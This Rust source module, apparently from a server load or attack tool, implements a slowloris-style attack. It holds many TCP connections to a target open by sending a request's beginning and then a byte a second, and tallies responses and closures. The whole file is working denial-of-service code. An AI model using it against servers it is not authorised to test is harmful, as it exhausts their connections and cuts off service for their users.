//! Connections that send the beginning of a request and then nothing, or a byte a second.

use std::io::{self, ErrorKind, Read as _, Write as _};
use std::net::TcpStream;
use std::thread;
use std::time::Duration;

use crate::scene::Scene;
use crate::sending::status_of;

/// How often each connection gets its turn.
const TURN: Duration = Duration::from_secs(1);

/// What each of them sends.
pub(crate) struct Stalled {
    /// What is sent as fast as the server takes it.
    pub(crate) beginning: Vec<u8>,
    /// What is sent of each turn after that.
    pub(crate) drip: &'static [u8],
}

/// A connection that is held.
struct Held {
    stream: TcpStream,
    sent: usize,
    received: Vec<u8>,
}

/// Keeps so many of them until the attack is over; one that is answered or closed is replaced at the next turn.
pub(crate) fn hold(scene: &Scene<'_>, connections: usize, stalled: &Stalled) {
    let mut places: Vec<Option<Held>> = (0..connections).map(|_| None).collect();
    while scene.goes_on() {
        for place in &mut places {
            *place = match place.take() {
                None => open(scene),
                Some(held) => turn(scene, held, stalled),
            };
        }
        thread::sleep(TURN);
    }
    scene
        .tally
        .add("still held", places.iter().flatten().count());
}

fn open(scene: &Scene<'_>) -> Option<Held> {
    let opened = TcpStream::connect(scene.address()).and_then(|stream| {
        stream.set_nonblocking(true)?;
        Ok(stream)
    });
    match opened {
        Ok(stream) => Some(Held {
            stream,
            sent: 0,
            received: Vec::new(),
        }),
        Err(_) => {
            scene.tally.count("no connection");
            None
        }
    }
}

/// Sends and reads what is possible at once. Returns the connection while it is of use.
fn turn(scene: &Scene<'_>, mut held: Held, stalled: &Stalled) -> Option<Held> {
    let ended = held.send(stalled).and_then(|()| held.read());
    if let Some((status, _)) = status_of(&held.received) {
        scene.tally.count(&status.to_string());
        return None;
    }
    match ended {
        Ok(()) => Some(held),
        Err(_) => {
            scene.tally.count("closed");
            None
        }
    }
}

impl Held {
    fn send(&mut self, stalled: &Stalled) -> io::Result<()> {
        loop {
            let rest = stalled.beginning.get(self.sent..).unwrap_or_default();
            if rest.is_empty() {
                return done_or_later(self.stream.write(stalled.drip)).map(drop);
            }
            match done_or_later(self.stream.write(rest))? {
                0 => return Ok(()),
                written => self.sent += written,
            }
        }
    }

    fn read(&mut self) -> io::Result<()> {
        let mut chunk = [0; 4_096];
        match self.stream.read(&mut chunk) {
            Ok(0) => Err(ErrorKind::UnexpectedEof.into()),
            read => {
                let read = done_or_later(read)?;
                self.received.extend(chunk.get(..read).unwrap_or_default());
                Ok(())
            }
        }
    }
}

/// What would block has done nothing yet.
fn done_or_later(done: io::Result<usize>) -> io::Result<usize> {
    match done {
        Err(error) if error.kind() == ErrorKind::WouldBlock => Ok(0),
        done => done,
    }
}
